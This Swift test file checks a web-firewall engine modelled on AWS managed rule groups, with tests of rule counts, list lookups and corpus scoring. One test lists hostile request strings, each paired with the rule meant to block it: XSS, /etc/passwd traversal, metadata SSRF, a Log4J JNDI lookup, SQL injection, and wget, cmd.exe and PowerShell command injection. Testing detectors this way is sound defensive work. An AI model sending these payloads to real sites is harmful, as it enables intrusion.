import Codecs
import Foundation
import Testing
import WebRules

@Suite("Managed rule groups")
struct ManagedGroupTests {
    /// All groups that look at content, in the order of a usual web ACL.
    static let content = [
        "CommonRuleSet", "KnownBadInputsRuleSet", "SQLiRuleSet", "LinuxRuleSet", "UnixRuleSet",
        "WindowsRuleSet", "PHPRuleSet", "WordPressRuleSet",
    ]

    static func acl(_ groups: [String] = content) throws -> WebACL {
        try WebACL(
            WebACLDefinition(
                name: "acl",
                rules: groups.enumerated().map { index, name in
                    RuleDefinition(
                        name, priority: index,
                        statement: .group(
                            GroupReference(
                                .managed(
                                    vendor: "AWS", name: "AWSManagedRules\(name)", version: nil))),
                        action: nil)
                }))
    }

    @Test("Every group compiles, its rules bear AWS's names and labels")
    func names() throws {
        #expect(ManagedGroups.names.count == 15)
        let common = try #require(ManagedGroups.all["AWSManagedRulesCommonRuleSet"])
        #expect(common.rules.count == 22)
        #expect(common.rules[1].labels == ["BadBots_Header"])
        #expect(ManagedGroups.all["AWSManagedRulesKnownBadInputsRuleSet"]?.rules.count == 12)
        #expect(ManagedGroups.all["AWSManagedRulesSQLiRuleSet"]?.rules.count == 8)
        // Those that watch logins must be told where one logs in.
        let watching = ["ATPRuleSet", "ACFPRuleSet"]
        let others = ManagedGroups.names.map { String($0.dropFirst(15)) }
            .filter { !watching.contains($0) }
        #expect(others.count == 13)
        _ = try Self.acl(others)
    }

    static let agent = ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64) Firefox/130.0")

    @Test(
        "Each rule finds what it is for",
        arguments: [
            ("/?q=<script>alert(1)</script>", "CrossSiteScripting_QUERYARGUMENTS"),
            ("/?f=../../etc/passwd", "GenericLFI_QUERYARGUMENTS"),
            ("/a/../../../etc/passwd", "GenericLFI_URIPATH"),
            ("/?u=http://169.254.169.254/latest/meta-data", "EC2MetaDataSSRF_QUERYARGUMENTS"),
            ("/backup.sql", "RestrictedExtensions_URIPATH"),
            ("/?u=http://10.1.2.3/x", "GenericRFI_QUERYARGUMENTS"),
            ("/?q=%24%7Bjndi:ldap://x/a%7D", "Log4JRCE_QUERYSTRING"),
            ("/.git/config", "ExploitablePaths_URIPATH"),
            ("/?id=1'%20or%20'1'='1", "SQLi_QUERYARGUMENTS"),
            ("/?c=;wget%20http://x/y", "UNIXShellCommandsVariables_QUERYSTRING"),
            ("/?c=cmd.exe%20/c%20dir", "WindowsShellCommands_QUERYARGUMENTS"),
            ("/?c=powershell%20-nop", "PowerShellCommands_QUERYARGUMENTS"),
            ("/?c=phpinfo()", "PHPHighRiskMethodsVariables_QUERYSTRING"),
            ("/xmlrpc.php", "WordPressExploitablePaths_URIPATH"),
        ])
    func attacks(target: String, rule: String) throws {
        let verdict = try Self.acl().evaluate(
            Make.request(target, headers: [Self.agent]), at: Make.now)
        #expect(verdict.groups.last?.terminatingRule?.id == rule)
    }

    @Test(
        "What people send passes",
        arguments: [
            "/", "/search?q=union+street+station", "/?q=O'Brien+and+sons", "/?q=a%26b", "/?x=1&y=2",
            "/?url=https://example.com/page?id=4", "/?q=select+a+size+from+the+list",
            "/docs/readme.html", "/?q=5%3E3+or+more", "/?q=the+cat+;+more+text", "/?t=50%25+off",
            "/?token=ZXlKaGJHY2lPaUpJVXpJMU5pSjk.eyJzdWIiOiIxMjM0NTY3ODkwIn0",
            "/?q=%E6%97%A5%E6%9C%AC",
            "/?q=let's+meet;+find+me+there", "/?date=2024-01-01T00:00:00Z", "/?q=rock+%27n%27+roll",
        ])
    func ordinary(target: String) throws {
        let verdict = try Self.acl().evaluate(
            Make.request(target, headers: [Self.agent, ("Host", "shop.example")]), at: Make.now)
        #expect(verdict.groups.last?.terminatingRule?.id == nil)
        #expect(verdict.outcome == .allow)
    }

    @Test("Lists are asked for the client")
    func lists() throws {
        let acl = try Self.acl(["AmazonIpReputationList", "AnonymousIpList"])
        let verdict = acl.evaluate(Make.request(), at: Make.now) { name, address in
            name == "AnonymousIPList" && address == Make.client
        }
        #expect(verdict.outcome.name == "BLOCK")
        #expect(verdict.labels == ["awswaf:managed:aws:anonymous-ip-list:AnonymousIPList"])
    }

    // MARK: The public corpus

    @Test("The corpus: what was not tuned on", .enabled(if: Vectors.areHere, Vectors.reason))
    func corpus() throws {
        let acl = try Self.acl()
        var lines: [String] = []
        for half in [Corpus.Half.tuned, .reported] {
            var found: [String: (hits: Int, all: Int)] = [:]
            var benign = (hits: 0, all: 0)
            for item in try Corpus.cases() where item.half == half {
                let verdict = acl.evaluate(item.request, at: Make.now)
                let isBlocked = verdict.outcome != .allow
                if item.isAttack {
                    found[item.kind, default: (0, 0)].all += 1
                    if isBlocked { found[item.kind, default: (0, 0)].hits += 1 }
                } else {
                    benign.all += 1
                    if isBlocked { benign.hits += 1 }
                }
                if half == .tuned, isBlocked != item.isAttack {
                    lines.append(
                        "\(item.isAttack ? "MISS" : "FALSE") \(item.kind) \(item.place) "
                            + "\(verdict.groups.last?.terminatingRule?.id ?? "") "
                            + String(item.payload.text.prefix(160)).debugDescription)
                }
            }
            let hits = found.values.reduce(0) { $0 + $1.hits }
            let all = found.values.reduce(0) { $0 + $1.all }
            lines.append(
                "\(half): attacks \(hits)/\(all), benign blocked \(benign.hits)/\(benign.all)")
            for (kind, count) in found.sorted(by: { $0.key < $1.key }) {
                lines.append("   \(kind): \(count.hits)/\(count.all)")
            }
            #expect(Double(hits) >= 0.95 * Double(all), "\(half)")
            #expect(Double(benign.hits) <= 0.02 * Double(benign.all), "\(half)")
        }
        let report = lines.joined(separator: "\n") + "\n"
        try FileHandle.standardError.write(contentsOf: Data(report.utf8))
    }
}
